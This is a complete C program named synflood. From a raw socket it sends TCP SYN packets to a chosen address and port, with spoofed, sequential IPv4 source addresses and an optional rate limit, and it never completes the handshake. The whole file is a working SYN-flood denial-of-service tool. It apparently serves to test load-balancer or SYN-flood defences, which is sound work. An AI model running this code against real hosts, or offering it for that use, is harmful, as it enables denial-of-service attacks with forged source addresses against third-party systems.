// SPDX-License-Identifier: GPL-2.0
/*
 * synflood: TCP SYNs from spoofed IPv4 sources, as an attack would send
 * them: COUNT sources, FIRST, FIRST+1, ..., each one SYN to VIP:PORT from
 * a random port, never followed by the handshake's last ACK. With -s, all
 * COUNT from FIRST alone, each from another port (one client with many
 * connections). At most PPS packets a second (0: as fast as the socket
 * takes them). Prints "sent N" and exits 0 if all were sent.
 *
 * usage: synflood [-s] VIP PORT FIRST COUNT [PPS]
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct pkt {
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static uint16_t csum(const void *data, size_t len, uint32_t sum)
{
	const uint8_t *p = data;

	for (; len > 1; len -= 2, p += 2)
		sum += (uint32_t)p[0] << 8 | p[1];
	if (len)
		sum += (uint32_t)p[0] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons(~sum & 0xffff);
}

/* The TCP checksum over the IPv4 pseudo-header and the segment. */
static uint16_t tcp_csum(const struct pkt *p)
{
	struct {
		uint32_t src, dst;
		uint8_t zero, proto;
		uint16_t len;
		struct tcphdr tcp;
	} __attribute__((packed)) ph = {
		.src = p->ip.saddr, .dst = p->ip.daddr,
		.proto = IPPROTO_TCP, .len = htons(sizeof(p->tcp)),
		.tcp = p->tcp,
	};

	return csum(&ph, sizeof(ph), 0);
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct in_addr first;
	unsigned long count, pps = 0, sent = 0;
	bool same = argc > 1 && !strcmp(argv[1], "-s");
	int fd, one = 1;
	double start;

	argc -= same;
	argv += same;
	if (argc < 5 || argc > 6 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 ||
	    inet_pton(AF_INET, argv[3], &first) != 1) {
		fprintf(stderr, "usage: synflood [-s] VIP PORT FIRST COUNT [PPS]\n");
		return 2;
	}
	count = strtoul(argv[4], NULL, 10);
	if (argc == 6)
		pps = strtoul(argv[5], NULL, 10);
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one))) {
		perror("synflood: raw socket");
		return 1;
	}
	srand(getpid());
	start = now();
	for (unsigned long i = 0; i < count; i++) {
		struct pkt p = {
			.ip = { .version = 4, .ihl = 5, .ttl = 64,
				.tot_len = htons(sizeof(p)),
				.protocol = IPPROTO_TCP,
				.id = htons(rand()),
				.saddr = htonl(ntohl(first.s_addr) + (same ? 0 : i)),
				.daddr = to.sin_addr.s_addr },
			.tcp = { .source = htons(same ? 1024 + (int)(i % 64000) :
						 1024 + rand() % 60000),
				 .dest = htons(atoi(argv[2])),
				 .seq = htonl(rand()), .doff = 5, .syn = 1,
				 .window = htons(64240) },
		};

		p.ip.check = csum(&p.ip, sizeof(p.ip), 0);
		p.tcp.check = tcp_csum(&p);
		while (sendto(fd, &p, sizeof(p), 0, (struct sockaddr *)&to,
			      sizeof(to)) < 0) {
			if (errno != ENOBUFS && errno != EAGAIN) {
				perror("synflood: sendto");
				return 1;
			}
			usleep(100);
		}
		sent++;
		if (pps && sent > (now() - start) * pps)
			usleep(1000000 / pps);
	}
	printf("sent %lu in %.1f s\n", sent, now() - start);
	return sent == count ? 0 : 1;
}
